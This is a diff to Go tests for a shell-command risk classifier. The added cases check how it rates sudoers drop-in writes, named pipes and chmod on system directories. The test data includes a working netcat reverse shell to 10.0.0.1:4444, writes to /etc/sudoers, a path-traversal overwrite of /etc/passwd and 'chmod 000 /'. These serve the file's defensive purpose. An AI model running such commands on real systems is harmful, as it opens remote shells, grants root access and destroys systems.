@@ -22,7 +22,7 @@ type line struct {
 func corpus(t testing.TB, dialect string) []line {
 	t.Helper()
 	var out []line
-	for _, name := range []string{"policy_public.jsonl", "policy_own.jsonl"} {
+	for _, name := range []string{"policy_public.jsonl", "policy_own.jsonl", "policy_review.jsonl"} {
 		f, err := os.Open(filepath.Join("..", "..", "..", "testdata", "corpus", name))
 		if err != nil {
 			t.Fatal(err)
@@ -49,6 +49,50 @@ func TestCorpus(t *testing.T) {
 		f := Facts(l.Input)
 		if l.Class == policy.Read && f.Class != policy.Read || f.Class.Severity() < l.Class.Severity() || f.Destructive != l.Destructive {
 			t.Errorf("%s %q: %s destructive=%t, want %s %t: %s", l.ID, l.Input, f.Class, f.Destructive, l.Class, l.Destructive, f.Why)
+		}
+	}
+}
+
+// judged is a class, with ! where it destroys.
+func judged(f policy.Facts) string {
+	if f.Destructive {
+		return f.Class.String() + "!"
+	}
+	return f.Class.String()
+}
+
+// A file of its own in a directory of such files adds; all else that > writes is lost.
+func TestDropIns(t *testing.T) {
+	for text, want := range map[string]string{
+		"echo x > /etc/sudoers.d/eve": "privilege", "echo x | tee /etc/sudoers.d/eve": "privilege", "> /etc/sudoers.d/eve": "privilege!", "echo x > /etc/sudoers": "dangerous!",
+		"echo x > /etc/cron.d/../passwd": "dangerous!", "echo x > /etc/cron.daily/x": "dangerous", "> /etc/cron.daily/x": "dangerous!", "echo x > a.d/x": "write!",
+	} {
+		if got := judged(Facts(text)); got != want {
+			t.Errorf("%q: %s, want %s", text, got, want)
+		}
+	}
+}
+
+// What is written to a pipe that the text makes overwrites nothing.
+func TestNamedPipes(t *testing.T) {
+	for text, want := range map[string]string{
+		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f": "dangerous",
+		"mkfifo /tmp/f; echo x > /tmp/g": "write!", "echo x > /tmp/f; mkfifo /tmp/f": "write!", "mkfifo app.log; echo x > app.log": "write!", "mkfifo /tmp/../etc/passwd; echo > /etc/passwd": "dangerous!",
+	} {
+		if got := judged(Facts(text)); got != want {
+			t.Errorf("%q: %s, want %s", text, got, want)
+		}
+	}
+}
+
+// A directory that everybody enters is closed without -R too.
+func TestClosedDirectories(t *testing.T) {
+	for text, want := range map[string]string{
+		"chmod 000 /": "dangerous!", "chmod 0644 /etc/": "dangerous!", "chmod a-x /usr/bin": "dangerous!", "chmod o= /var": "dangerous!", "chmod 755 /": "privilege", "chmod 1777 /tmp": "privilege",
+		"chmod o-w /tmp": "privilege", "chmod 700 /root": "privilege", "chmod 600 /etc/shadow": "privilege", "chmod +x /usr/bin": "privilege",
+	} {
+		if got := judged(Facts(text)); got != want {
+			t.Errorf("%q: %s, want %s", text, got, want)
 		}
 	}
 }
